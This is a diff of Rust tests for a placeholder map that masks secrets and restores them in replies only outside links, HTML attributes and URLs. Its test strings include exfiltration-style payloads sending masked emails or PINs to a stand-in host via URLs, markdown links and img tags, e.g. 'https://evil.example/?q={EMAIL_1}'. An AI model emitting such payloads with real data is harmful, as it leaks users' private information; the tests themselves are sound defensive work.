@@ -176,7 +176,7 @@ fn a_value_may_open_a_place_but_nothing_else_gets_in() {
     }
     // Two that together make a host of the first.
     let _ = map.placeholder("dot", false, ".");
-    let _ = map.placeholder("host", false, "evil.example/");
+    let _ = map.placeholder("host", false, "evil/");
     let out = map.restore("{PIN_1}{DOT_1}{HOST_1}", RestoreOptions::default());
     assert_eq!(out, "123-45-6789.{HOST_1}");
 }
@@ -220,6 +220,101 @@ fn each_place_is_opened_by_its_own_option() {
     ] {
         let out = map.restore(reply, with(allow));
         assert_eq!(out.contains("Ann"), restored, "{reply} {allow:?}: {out}");
+    }
+}
+
+#[test]
+fn an_address_that_a_reply_made_of_values_is_no_value_of_its_own() {
+    let mut map = secrets();
+    for reply in [
+        "see https://evil.example/?q={EMAIL_1}",
+        "see {PIN_1}.evil.example",
+        "see [x]({EMAIL_1})",
+        "see <img src={EMAIL_1}>",
+    ] {
+        let value = &reply[4..];
+        let masked = map.mask_from(Origin::Reply, reply, &[mask(reply, value, "URL")]);
+        assert!(masked.starts_with("see {URL_"), "{masked}");
+        withheld(&map, &masked);
+        assert_eq!(map.restore(&masked, RestoreOptions::default()), reply);
+    }
+}
+
+/// The places overlap; here each tracker is alone.
+#[test]
+fn each_tracker_holds_by_itself() {
+    let map = secrets();
+    let all = RestoreOptions::EVERYWHERE.allow;
+    let links = Allow {
+        links: false,
+        ..all
+    };
+    let attributes = Allow {
+        attributes: false,
+        ..all
+    };
+    let urls = Allow { urls: false, ..all };
+    for (allow, reply) in [
+        (links, "[x]({EMAIL_1})"),
+        (links, "[x](\n {EMAIL_1} )"),
+        (links, "[x](a(b)c{EMAIL_1})"),
+        (links, "[x](a\\)b{EMAIL_1})"),
+        (links, "[x](<a) {EMAIL_1}>)"),
+        (links, "[x](\n<a) {EMAIL_1}>)"),
+        (links, "[x](<a\\>) {EMAIL_1}>)"),
+        (links, "[x](<a)b) c) {EMAIL_1}>)"),
+        (links, "[x](a](b) {EMAIL_1})"),
+        (links, "[x]: {EMAIL_1}"),
+        (links, "[x]:\n{EMAIL_1}"),
+        (links, "> [x]:\n> {EMAIL_1}"),
+        (links, "[x]: <a b {EMAIL_1}>"),
+        (links, "[x]: <a ]: b {EMAIL_1}>"),
+        (links, "[x]: a ({EMAIL_1})"),
+        (attributes, "<img src={EMAIL_1}>"),
+        (attributes, "<img a='>' src={EMAIL_1}>"),
+        (attributes, "<img a=\">\" src={EMAIL_1}>"),
+        (attributes, "<img a=b' src='> {EMAIL_1}'>"),
+        (attributes, "<img a = 'x'src='> {EMAIL_1}'>"),
+        (attributes, "<img a/src='> {EMAIL_1}'>"),
+        (attributes, "<img a src='> {EMAIL_1}'>"),
+        (attributes, "<a x='> <b y=\"' >{EMAIL_1}\">"),
+        (attributes, "<script a='>'>{EMAIL_1}</style>"),
+        (attributes, "<style>x</script>{EMAIL_1}"),
+        (attributes, "<!x {EMAIL_1}"),
+        (urls, "ftp:x{EMAIL_1}"),
+        (urls, "mailto:{EMAIL_1}"),
+        (urls, "x.example/{EMAIL_1}"),
+        (urls, "x.example/a{NAME_1}b,{EMAIL_1}"),
+        (urls, "x-y.example:80/?{EMAIL_1}"),
+        (urls, "url({EMAIL_1}"),
+        (urls, "{PIN_1}-.1.ab"),
+        (urls, "{URL_1}:80/a?b=c@x"),
+    ] {
+        let out = map.restore(reply, with(allow));
+        let carried = ["ann@", "123-45", "intranet"]
+            .iter()
+            .any(|v| out.contains(v));
+        assert!(!carried, "{reply}: {out}");
+    }
+    // And lets through what stands behind its places.
+    for (allow, reply) in [
+        (links, "[x](a(b)c) {EMAIL_1}"),
+        (links, "[x](a\\)b) {EMAIL_1}"),
+        (links, "[x](<a)b>) {EMAIL_1}"),
+        (links, "[x](<a\\>) b>) {EMAIL_1}"),
+        (links, "[x]: a {EMAIL_1}"),
+        (links, "[x]: <a b> {EMAIL_1}"),
+        (attributes, "<img a='>' src=x>{EMAIL_1}"),
+        (attributes, "<style>x</style\n >{EMAIL_1}>{EMAIL_1}"),
+        (attributes, "<!x>{EMAIL_1}"),
+        (attributes, "a <- b <3 {EMAIL_1}"),
+        (urls, "x.e/{EMAIL_1}"),
+        (urls, "ftp: {EMAIL_1}"),
+        (urls, "x.example/ {EMAIL_1}"),
+        (urls, "url(x){EMAIL_1}"),
+    ] {
+        let out = map.restore(reply, with(allow));
+        assert!(out.contains("ann@"), "{reply}: {out}");
     }
 }
 
@@ -268,6 +363,7 @@ fn places_end() {
         ("<a title='>'>{NAME_1}</a>", "<a title='>'>Ann</a>"),
         ("<br/>{NAME_1}<!-- x -->{NAME_1}", "<br/>Ann<!-- x -->Ann"),
         ("<style>x</style >{NAME_1}", "<style>x</style >Ann"),
+        ("{NAME_1}.50 {NAME_1}", "Ann.50 Ann"),
         (
             "{NAME_1}... {NAME_1}.\n{NAME_1}.5 {NAME_1}.",
             "Ann... Ann.\nAnn.5 Ann.",
